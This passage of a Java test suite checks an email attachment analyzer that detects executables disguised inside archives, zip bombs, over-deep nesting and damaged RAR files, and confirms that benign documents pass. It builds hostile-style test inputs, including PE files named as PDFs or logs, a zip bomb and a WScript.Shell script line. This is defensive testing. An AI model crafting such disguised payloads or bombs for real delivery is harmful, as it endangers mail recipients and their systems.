        assertThat(analyze(headersOnly, mail(file("memo.rar", note)), ParseLimits.defaults())).containsExactly(
                Finding.of("ATTACHMENT_NOT_INSPECTED", "memo.rar: 1 compressed RAR entry not unpacked (names checked)"));
    }

    @Test
    void unpackedRarContentCountsAgainstTheMessagesBudgetAndDamageAfterAGoodEntryIsNamed() throws Exception {
        byte[] big = new byte[3 * 1024 * 1024 + 7];
        new java.util.Random(7).nextBytes(big);
        byte[] rar = RarWriter.rar5().add("data.bin", RarWriter.Kind.PACKED, big).end();
        AttachmentContentAnalyzer small = new AttachmentContentAnalyzer(new ArchiveLimits(5, 1000, 100, 2L * 1024 * 1024,
                32 * 1024 * 1024));
        assertThat(analyze(small, mail(file("data.rar", rar)), ParseLimits.defaults())).containsExactly(
                Finding.of("ARCHIVE_BOMB", "data.rar!/data.bin: archives expand beyond 2 MiB"));

        // a good compressed entry, then data marked compressed that is not RAR's compression: libarchive stops
        byte[] broken = RarWriter.rar5()
                .add("a.txt", RarWriter.Kind.PACKED, ascii("first\r\n"))
                .add("b.exe", RarWriter.Kind.COMPRESSED, pe())
                .end();
        List<Finding> found = analyze(file("broken.rar", broken));
        assertThat(found).first().isEqualTo(Finding.of("ATTACHMENT_EXECUTABLE", "broken.rar!/b.exe"));
        assertThat(found).extracting(Finding::code).containsOnly("ATTACHMENT_EXECUTABLE", "ATTACHMENT_NOT_INSPECTED");
        assertThat(found.get(found.size() - 1).evidence()).matches(
                "broken\\.rar: [12] compressed RAR entr(y|ies) not unpacked \\(damaged or unsupported; names checked\\)");
    }

    /**
     * A program that never answers, standing in for libarchive stuck on an archive (exec: the shell becomes sleep, so
     * that ending it closes the pipe).
     */
    private Path slowUnpacker() throws IOException {
        Path slow = temp.resolve("slow-unpacker");
        Files.writeString(slow, "#!/bin/sh\nexec sleep 60\n");
        assertThat(slow.toFile().setExecutable(true)).isTrue();
        return slow;
    }

    @Test
    void anUnpackerThatTakesTooLongIsEndedAndSaysSo() throws Exception {
        byte[] rar = RarWriter.rar5().add("invoice.pdf", RarWriter.Kind.PACKED, pe()).end();
        AttachmentContentAnalyzer stuck = new AttachmentContentAnalyzer(ArchiveLimits.defaults(),
                RarUnpacker.of(slowUnpacker(), Duration.ofSeconds(1)));
        long start = System.nanoTime();
        assertThat(analyze(stuck, mail(file("invoice.rar", rar)), ParseLimits.defaults())).containsExactly(
                Finding.of("ATTACHMENT_NOT_INSPECTED",
                        "invoice.rar: 1 compressed RAR entry not unpacked (took longer than 1 s; names checked)"));
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(30));
    }

    @Test
    void anInterruptedAnalysisEndsTheUnpackerAtOnce() throws Exception {
        byte[] rar = RarWriter.rar5().add("invoice.pdf", RarWriter.Kind.PACKED, pe()).end();
        AttachmentContentAnalyzer stuck = new AttachmentContentAnalyzer(ArchiveLimits.defaults(),
                RarUnpacker.of(slowUnpacker(), Duration.ofSeconds(60)));
        java.util.concurrent.ExecutorService pool = java.util.concurrent.Executors.newSingleThreadExecutor();
        try {
            java.util.concurrent.Future<List<Finding>> analysis =
                    pool.submit(() -> analyze(stuck, mail(file("invoice.rar", rar)), ParseLimits.defaults()));
            Thread.sleep(300);
            long start = System.nanoTime();
            analysis.cancel(true); // what the pipeline does when the analyzer's time is up
            pool.shutdown();
            assertThat(pool.awaitTermination(10, java.util.concurrent.TimeUnit.SECONDS)).isTrue();
            assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(10));
        } finally {
            pool.shutdownNow();
        }
    }

    @Test
    void theUnpackerIsBsdtarUnlessNamedOrTurnedOff() {
        assertThat(RarUnpacker.find("").available()).isTrue(); // the test command installs libarchive-tools
        assertThat(RarUnpacker.find(" none ").available()).isFalse();
        assertThat(RarUnpacker.find(temp.resolve("no-such-program").toString()).available()).isFalse();
    }

    @Test
    void aDamagedRarIsNotInspectedAndARarInAZipIsOpenedToo() throws Exception {
        byte[] rar = RarWriter.rar5().add("a/run.exe", RarWriter.Kind.STORED, pe()).end();
        // cut inside the entry's data: its name was read and is judged, its content and the archive are unreadable
        byte[] cut = java.util.Arrays.copyOf(rar, rar.length - 40);
        assertThat(analyze(file("cut.rar", cut), file("outer.zip", zip("inner.rar", rar))))
                .extracting(Finding::code, Finding::evidence).containsExactly(
                        org.assertj.core.groups.Tuple.tuple("ATTACHMENT_EXECUTABLE", "cut.rar!/a/run.exe"),
                        org.assertj.core.groups.Tuple.tuple("ATTACHMENT_NOT_INSPECTED", "cut.rar!/a/run.exe: unreadable (EOFException)"),
                        org.assertj.core.groups.Tuple.tuple("ATTACHMENT_NOT_INSPECTED", "cut.rar: damaged archive (EOFException)"),
                        org.assertj.core.groups.Tuple.tuple("ATTACHMENT_EXECUTABLE", "outer.zip!/inner.rar!/a/run.exe"),
                        org.assertj.core.groups.Tuple.tuple("ATTACHMENT_EXECUTABLE_CONTENT",
                                "outer.zip!/inner.rar!/a/run.exe: Windows executable (PE)"));
    }

    @Test
    void damagedRarArchivesGiveFindingsNeverAFailure() throws Exception {
        // every cut of a RAR 5 archive with a stored program: the analyzer always answers, at worst "not inspected"
        byte[] rar = RarWriter.rar5().add("a/run.exe", RarWriter.Kind.STORED, pe())
                .add("b.txt", RarWriter.Kind.COMPRESSED, ascii("text")).end();
        for (int cut = 8; cut < rar.length; cut += 3) {
            List<Finding> findings = analyze(file("cut.rar", java.util.Arrays.copyOf(rar, cut)));
            assertThat(findings).extracting(Finding::code).doesNotContain("ANALYZER_FAILED")
                    .isSubsetOf("ATTACHMENT_EXECUTABLE", "ATTACHMENT_EXECUTABLE_CONTENT", "ATTACHMENT_NOT_INSPECTED");
        }
    }

    @Test
    void mutatedCompressedRarArchivesGiveFindingsNeverAFailure() throws Exception {
        // random bytes changed in an archive libarchive unpacks: every answer is a finding or nothing, never an error,
        // and a program whose data survived is still found
        byte[] rar = RarWriter.rar5().add("a/run.pdf", RarWriter.Kind.PACKED, pe())
                .add("b.txt", RarWriter.Kind.PACKED, ascii("text to read\r\n")).end();
        java.util.Random random = new java.util.Random(20261128);
        for (int i = 0; i < 150; i++) {
            byte[] mutated = rar.clone();
            for (int k = 0; k < 1 + random.nextInt(3); k++) {
                mutated[8 + random.nextInt(mutated.length - 8)] ^= (byte) (1 + random.nextInt(255));
            }
            List<Finding> findings = analyze(file("mutated.rar", mutated));
            assertThat(findings).extracting(Finding::code).doesNotContain("ANALYZER_FAILED").isSubsetOf(
                    "ATTACHMENT_EXECUTABLE", "ATTACHMENT_DOUBLE_EXTENSION", "ATTACHMENT_EXECUTABLE_CONTENT",
                    "ATTACHMENT_TYPE_MISMATCH", "ATTACHMENT_NOT_INSPECTED", "ARCHIVE_BOMB", "ENCRYPTED_ARCHIVE");
        }
    }

    // ---- other archive formats ------------------------------------------------------------------------------

    @Test
    void gzippedTarAndSevenZipAreOpenedAndTheirEntriesChecked() throws Exception {
        ByteArrayOutputStream tgz = new ByteArrayOutputStream();
        try (TarArchiveOutputStream tar = new TarArchiveOutputStream(new GZIPOutputStream(tgz))) {
            TarArchiveEntry e = new TarArchiveEntry("logs/setup.log");
            e.setSize(pe().length);
            tar.putArchiveEntry(e);
            tar.write(pe());
            tar.closeArchiveEntry();
        }
        Path sevenZ = temp.resolve("a.7z");
        try (SevenZOutputFile out = new SevenZOutputFile(sevenZ.toFile())) {
            SevenZArchiveEntry e = out.createArchiveEntry(temp.toFile(), "docs/readme.js");
            e.setDirectory(false);
            out.putArchiveEntry(e);
            out.write(ascii("var sh = WScript.CreateObject(\"WScript.Shell\");"));
            out.closeArchiveEntry();
        }

        assertThat(analyze(file("logs.tar.gz", tgz.toByteArray()), file("docs.7z", Files.readAllBytes(sevenZ))))
                .containsExactly(
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "logs.tar.gz!/logs.tar!/logs/setup.log: Windows executable (PE)"),
                        Finding.of("ATTACHMENT_EXECUTABLE", "docs.7z!/docs/readme.js"),
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "docs.7z!/docs/readme.js: Windows script (wscript.shell)"));
    }

    @Test
    void aDamagedZipIsNotInspectedRatherThanAnError() throws Exception {
        byte[] truncated = java.util.Arrays.copyOf(zip("a.txt", ascii("x".repeat(5000)), "b.exe", pe()), 60);

        assertThat(analyze(file("broken.zip", truncated))).containsExactly(
                Finding.of("ATTACHMENT_NOT_INSPECTED", "broken.zip: damaged archive (EOFException)"));
    }

    // ---- limits ---------------------------------------------------------------------------------------------

    @Test
    void aGigabyteOfZerosInAZipIsABombStoppedEarlyInBoundedTimeAndMemory() throws Exception {
        byte[] raw = mail(file("bomb.zip", io.mamori.core.testing.Bombs.zerosZip(1024)));
        com.sun.management.ThreadMXBean threads = (com.sun.management.ThreadMXBean) ManagementFactory.getThreadMXBean();
        long allocatedBefore = threads.getCurrentThreadAllocatedBytes();
        long start = System.nanoTime();

        List<Finding> findings = analyze(raw);

        Duration took = Duration.ofNanos(System.nanoTime() - start);
        long allocated = threads.getCurrentThreadAllocatedBytes() - allocatedBefore;
        assertThat(findings).containsExactly(Finding.of("ARCHIVE_BOMB", "bomb.zip!/zeros.bin: expands more than 100×"));
        assertThat(took).isLessThan(Duration.ofSeconds(5));
        assertThat(allocated).as("bytes allocated while parsing and inspecting").isLessThan(64L * 1024 * 1024);
    }

    @Test
    void zipsNestedDeeperThanTheLimitAreTooDeep() throws Exception {
        byte[] inner = zip("payload.exe", pe());
        for (int level = 6; level >= 1; level--) {
            inner = zip("level" + level + ".zip", inner);
        }

        assertThat(analyze(file("deep.zip", inner))).containsExactly(Finding.of("ARCHIVE_TOO_DEEP",
                "deep.zip!/level1.zip!/level2.zip!/level3.zip!/level4.zip!/level5.zip: archive nested more than 5 levels deep"));
    }

    @Test
    void tooManyEntriesAndTooManyBytesAreBombsUnderSmallerLimits() throws Exception {
        List<Object> many = new ArrayList<>();
        for (int i = 0; i < 11; i++) {
            many.add("file" + i + ".txt");
            many.add(ascii("entry " + i));
        }
        byte[] random = new byte[3 * 1024 * 1024];
        new java.util.Random(7).nextBytes(random);
        AttachmentContentAnalyzer small = new AttachmentContentAnalyzer(new ArchiveLimits(5, 10, 100, 2L * 1024 * 1024, 1024 * 1024));

        assertThat(analyze(small, mail(file("many.zip", zip(many.toArray()))), ParseLimits.defaults()))
                .containsExactly(Finding.of("ARCHIVE_BOMB", "many.zip: more than 10 archive entries"));
        assertThat(analyze(small, mail(file("big.zip", zip("random.bin", random))), ParseLimits.defaults()))
                .containsExactly(Finding.of("ARCHIVE_BOMB", "big.zip!/random.bin: archives expand beyond 2 MiB"));
    }

    /** A worksheet of many near-identical rows: it compresses far better than 100 to 1, as real ones can. */
    private static byte[] sparseWorksheet(int rows) {
        StringBuilder x = new StringBuilder("<worksheet><sheetData>");
        for (int r = 1; r <= rows; r++) {
            x.append("<row r=\"").append(r).append("\">");
            x.append("<c s=\"1\"/>".repeat(100)); // styled empty cells; the r attribute is optional
            x.append("</row>");
        }
        return ascii(x.append("</sheetData></worksheet>").toString());
    }

    @Test
    void aSpreadsheetWhosePartsCompressBetterThanTheArchiveRatioIsNoBombButTheSameAsAPlainZipIs() throws Exception {
        byte[] sheet = sparseWorksheet(10_000);
        byte[] xlsx = zip("[Content_Types].xml", ascii("<Types/>"), "xl/worksheets/sheet1.xml", sheet);
        byte[] plain = zip("sheet1.xml", sheet);
        assertThat(sheet.length / plain.length).as("precondition: compression ratio").isGreaterThan(100);

        assertThat(analyze(file("売上.xlsx", xlsx))).isEmpty();
        assertThat(analyze(file("sheet.zip", plain)))
                .containsExactly(Finding.of("ARCHIVE_BOMB", "sheet.zip!/sheet1.xml: expands more than 100×"));
    }

    @Test
    void documentPartsPastTheirOwnBudgetAreNotInspectedAndLaterAttachmentsStillAre() throws Exception {
        byte[] xlsx = zip("[Content_Types].xml", ascii("<Types/>"), "xl/worksheets/sheet1.xml", sparseWorksheet(10_000));
        AttachmentContentAnalyzer small = new AttachmentContentAnalyzer(new ArchiveLimits(5, 10, 100, 2L * 1024 * 1024, 1024 * 1024));

        assertThat(analyze(small, mail(file("big.xlsx", xlsx), file("tools.zip", zip("setup.exe", pe()))), ParseLimits.defaults()))
                .containsExactly(
                        Finding.of("ATTACHMENT_NOT_INSPECTED", "big.xlsx!/xl/worksheets/sheet1.xml: document part too large to inspect"),
                        Finding.of("ATTACHMENT_EXECUTABLE", "tools.zip!/setup.exe"),
                        Finding.of("ATTACHMENT_EXECUTABLE_CONTENT", "tools.zip!/setup.exe: Windows executable (PE)"));
    }

    @Test
    void anAttachmentPastTheMessagesContentBudgetIsReportedAsNotFullyInspected() throws Exception {
        List<Finding> findings = analyze(analyzer, mail(file("report.pdf", MINIMAL_PDF), file("big.bin", new byte[3000])),
                ParseLimits.defaults().withMaxAttachmentBytes(MINIMAL_PDF.length + 1000));

        assertThat(findings).containsExactly(
                Finding.of("ATTACHMENT_NOT_INSPECTED", "big.bin: 3000 bytes, only the first 1000 inspected"));
    }

    @Test
    void anInterruptedAnalysisStopsWithInterruptedException() throws Exception {
        byte[] raw = mail(file("a.zip", zip("a.txt", ascii("hello"))));
        try (ParsedMessage m = new MessageParser(ParseLimits.defaults(), temp).parse(new ByteArrayInputStream(raw))) {
            Thread.currentThread().interrupt();
            assertThatThrownBy(() -> analyzer.analyze(new AnalysisInput(ENVELOPE, m))).isInstanceOf(InterruptedException.class);
        } finally {
            Thread.interrupted();
        }
    }

    // ---- benign look-alikes ---------------------------------------------------------------------------------

    @Test
    void ordinaryDocumentsImagesAndArchivesOfTextRaiseNothing() throws Exception {
        byte[] png = {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 'I', 'H', 'D', 'R', 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0};
        byte[] cp932Names = cp932Zip("見積書/議事録.txt", ascii("議事録です"));

        assertThat(analyze(file("report.pdf", MINIMAL_PDF),
                file("harmless-clean.docx", sample("oletools/harmless-clean.docx")),
                file("harmless-clean.doc", sample("oletools/harmless-clean.doc")),
                file("photo.jpg", png),
                file("minutes.zip", zip("minutes/2025-04.txt", ascii("議事録\r\n".repeat(500)), "data.csv", ascii("a,b\r\n1,2\r\n"))),
                file("見積書.zip", cp932Names),
                file("chinese-names.zip", sample("zip4j/testfile_with_chinese_filename_by_7zip.zip")))).isEmpty();
    }

    @Test
    void spamAssassinsWorkbookWithoutMacrosAndItsCsvRaiseNothing() throws Exception {
        assertThat(fixtureMessage("spamassassin-nomacro.eml")).isEmpty();
        assertThat(fixtureMessage("spamassassin-goodcsv.eml")).isEmpty();
    }

    /** A zip with a CP932 entry name and no UTF-8 flag, as Japanese Windows' Explorer writes it. */
    private static byte[] cp932Zip(String name, byte[] content) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out, Charset.forName("MS932"))) {
            zip.putNextEntry(new ZipEntry(name));
            zip.write(content);
            zip.closeEntry();
        }
        return out.toByteArray();
    }
}
